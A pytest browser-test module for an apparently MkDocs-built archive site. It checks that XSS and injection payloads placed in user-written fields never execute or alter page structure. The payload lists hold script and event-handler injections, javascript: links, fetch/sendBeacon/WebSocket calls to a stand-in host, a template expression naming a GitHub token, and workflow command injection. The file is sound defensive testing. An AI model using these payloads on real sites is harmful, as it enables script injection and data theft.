"""Payloads of every kind, in every field that a stranger writes: nothing runs, and nothing but the words differs."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext

from detector import Detector, watching
from helpers import Built, build, chromium, pages_of, served, write_files
from hostile import CONFIG, Made, as_it_is, grouped, harmless, make_archive

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("payloads")]

RUNS = {
    "a script": ("<script>alert('plain')</script>", "alert plain"),
    "a script behind the end of a title": ("</title></textarea></style><script>alert('ended')</script>", "alert ended"),
    "a script behind the end of a comment": ("--><script>confirm('commented')</script><!--", "confirm commented"),
    "a script in capitals": ("<SCRIPT >prompt('loud')</SCRIPT >", "prompt loud"),
    "a script of another host": ("<script src='https://elsewhere.example/x.js'></script>", "request https://elsewhere"),
    "a picture that cannot load": ("<img src=nowhere onerror=alert('picture')>", "alert picture"),
    "a picture of another host": ("<img src='https://elsewhere.example/pixel.gif'>", "request https://elsewhere"),
    "a drawing that loads": ("<svg onload=alert('drawing')>", "alert drawing"),
    "a drawing with a script": ("<svg><script>alert&#40;'drawn'&#41;</script></svg>", "alert drawn"),
    "the end of an attribute": ("\" onmouseover=\"alert('over')\" x='", "p onmouseover"),
    "a frame": ("<iframe srcdoc=\"<script>parent.alert('framed')</script>\"></iframe>", "alert framed"),
    "a frame with an address": ("<iframe src=\"javascript:parent.alert('led')\"></iframe>", "alert led"),
    "an object": ("<object data='https://elsewhere.example/o.swf'></object>", "object has data"),
    "a link that is a script": ("<a href=\"java&Tab;script:alert('link')\">x</a>", "javascript:"),
    "a form": ("<form action=\"javascript:alert('sent')\"><button>x</button></form>", "javascript:"),
    "a button of its own mind": ("<button formaction=\"javascript:alert('sent')\">x</button>", "javascript:"),
    "details that open": ("<details open ontoggle=alert('opened')><summary>x</summary></details>", "alert opened"),
    "a field that takes the focus": ("<input autofocus onfocus=alert('focused')>", "alert focused"),
    "an animation": ("<style>@keyframes x{}</style><b style='animation:x' onanimationend=alert('moved')>x</b>", "b on"),
    "a style sheet of another host": (
        "<style>@import 'https://elsewhere.example/x.css';</style>",
        "request https://else",
    ),
    "a style of its own": ("<p style='position:fixed;inset:0'>all over the page</p>", "p style"),
    "another base": ("<base href='https://elsewhere.example/'><img src=relative>", "request https://elsewhere"),
    "a page that leads away": (
        "<meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
        "https://elsewhere.example/",
    ),
    "a window": ("<script>open('https://elsewhere.example/')</script>", "open https://elsewhere"),
    "a message home": ("<script>navigator.sendBeacon('https://elsewhere.example/', 'x')</script>", "sendBeacon"),
    "a fetch": ("<script>fetch('https://elsewhere.example/').catch(() => 0)</script>", "fetch https://elsewhere"),
    "a socket": ("<script>new WebSocket('wss://elsewhere.example/')</script>", "WebSocket wss://elsewhere"),
    "a cookie": ("<script>document.cookie = 'a=b'</script>", "cookie a=b"),
    "the window's name": ("<script>window.name = 'kept'</script>", "window.name kept"),
    "an error": ("<script>no_such_thing()</script>", "error no_such_thing"),
    "the theme's own id": ("<script id=__config type=application/json>{}</script><b id=__config>x</b>", "#__config"),
    "the document's own function": ("<form name=getElementById></form>", "document.getElementById is hidden"),
    "mathematics": ("<math><mtext><img src=nowhere onerror=alert('sum')></mtext></math>", "alert sum"),
    "an attribute that is never ended": ("<img src=nowhere onerror=alert('torn') x=\"", "alert torn"),
}
"""Kind -> what is written, and what the detector says where a page has it as HTML."""

SHOWN = {
    "template language": "{{ 7 * 7 }}{% set x = 1 %}{# x #}${{ github.token }}",
    "a link of Markdown that is a script": "[words](javascript:alert('md')) <javascript:alert('auto')>",
    "links to other schemes": "[a](data:text/html,x) [b](vbscript:x) [c](//other.example) [d](/\\other.example)",
    "a picture of Markdown": "![words](https://elsewhere.example/pixel.gif)",
    "an attribute list": "words {: #__config .md-nav onclick=alert(1) style=color:red }",
    "an attribute list on a line of its own": "{: #__search onclick=alert(1) }",
    "a snippet": '--8<-- "mkdocs.yml"',
    "a section of SGML": "words <![CDATA[ words ]]> <![if x]> <!ENTITY x 'y'>",
    "an abbreviation": "*[words]: <img src=nowhere onerror=alert(1)>",
    "a footnote": "[^1]: words[^1]",
    "a fence that is never closed": "```html onclick=alert(1)",
    "an element that is never closed": "<div class='md-container'><table><textarea>",
    "a comment that is never closed": "words <!-- words",
    "a reference of Markdown": "[words]: javascript:alert(1)",
    "escaped HTML": "&lt;script&gt;alert('twice')&lt;/script&gt; &#60;b&#62; &amp;lt;i&amp;gt;",
    "escaped by its bytes": "%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003e +ADw-script+AD4-",
    "an admonition": '!!! danger "<script>alert(1)</script>"',
    "a link of the archive": '[[people/nobody|<b>words</b>]] [[" onclick="alert(1)]] [[javascript:alert(1)]]',
    "a command of a workflow": "::error file=a::words %0A::set-output name=x::y",
    "front matter": "--- template: redirect.html",
    "columns of a table": "| a | b | c ||",
    "headings and rules": "# words ### === ***",
    "tabs and spaces": "a\tb  c \u00a0 d",
    "quotation marks of all kinds": "'\"`´‘’“”«» \\' \\\"",
    "Hebrew and Arabic": "שלום עולם مرحبا",
    "no characters": "\ufeffwords\ufffe\uffff",
    "letters with many marks": "w" + "\u0301" * 40,
}
"""Kind -> what no page obeys."""

PAYLOADS = [payload for payload, _ in RUNS.values()] + list(SHOWN.values())


ALIKE = "The harbor of Halden was closed on Friday.\n\nSixty ships lay before it, and no pilot came.\n"
COMMON = {"mkdocs.yml": CONFIG, "docs/index.md": "# Home\n", "seeds/z1.txt": ALIKE, "seeds/z2.txt": ALIKE}
"""Of both archives. Two documents say the same, so that both have pages of what says the same, and lead to them."""


@pytest.fixture(scope="module")
def made() -> Made:
    return make_archive(grouped(PAYLOADS), as_it_is)


@pytest.fixture(scope="module")
def hostile(made: Made, tmp_path_factory: pytest.TempPathFactory) -> Built:
    root = tmp_path_factory.mktemp("hostile")
    write_files(root, {**COMMON, **made.files})
    return Built(root, root / "site", build(root))


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """The same archive, with harmless words."""
    root = tmp_path_factory.mktemp("plain")
    files = make_archive(grouped(PAYLOADS), harmless).files
    write_files(root, {**COMMON, **files})
    return Built(root, root / "site", build(root))


@pytest.fixture(scope="module")
def context() -> Iterator[BrowserContext]:
    """A browser that ignores the site's own Content-Security-Policy: it is the second wall, not the first."""
    with chromium() as browser:
        yield browser.new_context(bypass_csp=True)


def told_alike(site: Path) -> set[str]:
    """Return the addresses of pages that tell which documents say alike: that is for their words to decide."""
    folder = site / "archive"
    compared = [page.parent for page in folder.glob("compared/**/index.html")]
    documents = [page.parent for page in folder.glob("documents/*/index.html") if b'id="compared"' in page.read_bytes()]
    return {f"{page.relative_to(site).as_posix()}/" for page in (*compared, *documents)}


def addresses(site: Path, without: Iterable[str] = ()) -> dict[str, str]:
    """Return the address of each page, by itself without what payloads made of it."""
    pages = sorted({page.removesuffix("index.html") for page in pages_of(site)} - set(without))
    return {re.sub(r"(w\d{5})[^/]*", r"\1", page): page for page in pages}


def leads(page: str) -> str:
    return page.replace("terms/", "people/") if page.startswith("archive/terms/g") else ""


def first_difference(one: list[str], two: list[str]) -> tuple[str, str] | None:
    return next((pair for pair in zip([*one, ""], [*two, ""], strict=False) if pair[0] != pair[1]), None)


def test_nothing_runs_and_nothing_is_out_of_its_place(hostile: Built, made: Made, context: BrowserContext) -> None:
    pages = addresses(hostile.site)
    assert len(pages) > 4 * len(grouped(PAYLOADS))
    found, missing = {}, []
    with served(hostile.site) as root, watching(context, root) as detector:
        for key, page in pages.items():
            if hits := detector.open(page, leads_to=leads(page)):
                found[key] = hits
            said = detector.words() if page in made.shown else ""
            missing += [(key, each) for each in made.shown.get(page, ()) if " ".join(each.split()) not in said]
    assert found == {}
    assert missing == [], "words that are not shown as they are prove nothing"
    assert set(made.shown) <= set(pages)


def test_pages_are_those_of_harmless_words(hostile: Built, plain: Built, context: BrowserContext) -> None:
    """As Chromium reads them, before any script: what the theme's scripts add, and when, is not the pages'."""
    alike = told_alike(hostile.site) | told_alike(plain.site)
    ours, theirs = addresses(hostile.site, alike), addresses(plain.site, alike)
    assert sorted(ours) == sorted(theirs)
    different = {}
    with served(hostile.site) as root, watching(context, root) as detector:
        for key in ours:
            pages = (hostile.site / ours[key], plain.site / theirs[key])
            files = (page / "index.html" if page.is_dir() else page for page in pages)
            one, two = (detector.skeleton(file.read_text("utf-8")) for file in files)
            assert len(one) > 50
            if found := first_difference(one, two):
                different[key] = found
    assert different == {}


SEARCH = "archive/search/"


def test_the_themes_scripts_make_the_same_of_them(hostile: Built, plain: Built, context: BrowserContext) -> None:
    """On pages that stay: a merged entry's leads on at once. What the search lists, it lists when it is loaded."""
    alike = told_alike(hostile.site) | told_alike(plain.site)
    ours, theirs = addresses(hostile.site, alike), addresses(plain.site, alike)
    stay = [key for key in ours if not leads(ours[key]) and ours[key] != SEARCH]
    assert len(stay) > len(ours) / 2
    different = {}
    with (
        served(hostile.site) as root,
        served(plain.site) as other_root,
        watching(context, root) as detector,
        watching(context, other_root) as other,
    ):
        for key in stay:
            detector.page.goto(f"{root}{ours[key]}")
            other.page.goto(f"{other_root}{theirs[key]}")
            if found := first_difference(detector.skeleton(), other.skeleton()):
                different[key] = found
    assert different == {}


def test_every_payload_stands_in_every_field_that_takes_words(made: Made) -> None:
    words = [name for name in made.tally.placed if not re.search("see|reading|folder|date|, behind", name)]
    few = {name: made.tally.placed[name] for name in words if made.tally.placed[name] < len(PAYLOADS) - 3}
    assert few == {}, "all but those with characters that YAML does not have"
    assert {name.partition(":")[0] for name in words} == {"source", "sidecar", "entry", "note", "merged entry"}


@pytest.mark.parametrize(
    "name",
    [
        "note: motivation",
        "note: date",
        "note: file name",
        "note: see, without words",
        "entry: file name",
        "entry: merged_into",
        "entry: same_as",
        "sidecar: id",
        "sidecar: date",
        "sidecar: retrieved",
        "sidecar: encoding",
        "sidecar: version_of",
        "sidecar: url",
    ],
)
def test_no_payload_stands_where_only_a_name_a_date_or_an_address_may(name: str, made: Made) -> None:
    assert (made.tally.placed[name], made.tally.refused[name]) == (0, len(PAYLOADS))


@pytest.mark.parametrize(("payload", "expected"), RUNS.values(), ids=RUNS)
def test_the_detector_sees_each_payload_where_it_is_html(
    payload: str, expected: str, context: BrowserContext, tmp_path: Path
) -> None:
    """Without this the tests above would prove nothing."""
    head = "<!doctype html><title>x</title><script id='__config' type='application/json'>{}</script>"
    attribute = f'<p title="{payload}">x</p>' if payload.startswith('"') else ""
    body = f"<div class='note-body'>{attribute or payload}</div><p title='x\">'>x</p>"
    write_files(tmp_path, {"raw.html": f"{head}{body}"})
    with served(tmp_path) as root, watching(context, root) as detector:
        try:
            hits = detector.open("raw.html")
        except Exception:  # of a page that leads away
            hits = detector.hits
        assert [hit for hit in hits if expected in hit], hits


PAGE = """<!doctype html><title>x</title><script id="__config" type="application/json">{}</script>
<main class="glossator"><h1 id="page-title">x</h1><div class="note-body"><p>x</p></div><p data-start="0">x</p></main>"""


@pytest.fixture
def detector(context: BrowserContext, tmp_path: Path) -> Iterator[Detector]:
    write_files(tmp_path, {"page.html": PAGE, "favicon.ico": ""})
    with served(tmp_path) as root, watching(context, root) as detector:
        yield detector


def test_the_detector_is_silent_on_a_harmless_page(detector: Detector) -> None:
    assert detector.open("page.html") == []


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("<h1", "<b></b><h1"),
        ("<h1 ", "<h2 "),
        ('id="page-title"', 'id="other"'),
        ('id="page-title"', 'id="page-title" hidden'),
        ('<div class="note-body">', '<div class="note-body other">'),
        ('<p data-start="0">x</p>', '<p data-start="0">x</p><p></p>'),
        ("</main>", "</main><main></main>"),
    ],
)
def test_a_changed_page_is_not_like_the_other(old: str, new: str, detector: Detector) -> None:
    detector.page.goto(f"{detector.root}page.html")
    assert detector.skeleton(PAGE) == detector.skeleton()
    assert PAGE.replace(old, new) != PAGE
    assert detector.skeleton(PAGE.replace(old, new)) != detector.skeleton()


def test_what_stands_in_a_slot_is_compared_by_what_may_stand_there(detector: Detector) -> None:
    changed = PAGE.replace("<p>x</p>", "<ul><li>a</li></ul><p>b</p>").replace(">x</p></main>", "><em>y</em></p></main>")
    assert detector.skeleton(changed) == detector.skeleton(PAGE)


@pytest.mark.parametrize(
    ("slot", "expected"),
    [
        ("<form></form>", "form stands in a slot"),
        ("<svg></svg>", "svg stands in a slot"),
        ("<p id='mine'>x</p>", "p has id in a slot"),
        ("<a target='_blank'>x</a>", "a has target in a slot"),
        ("<p id='page-title'>x</p>", "p has the id page-title again"),
    ],
)
def test_what_may_not_stand_in_a_slot_is_seen(slot: str, expected: str, detector: Detector, tmp_path: Path) -> None:
    write_files(tmp_path, {"slot.html": PAGE.replace("<p>x</p>", slot)})
    assert expected in detector.open("slot.html")
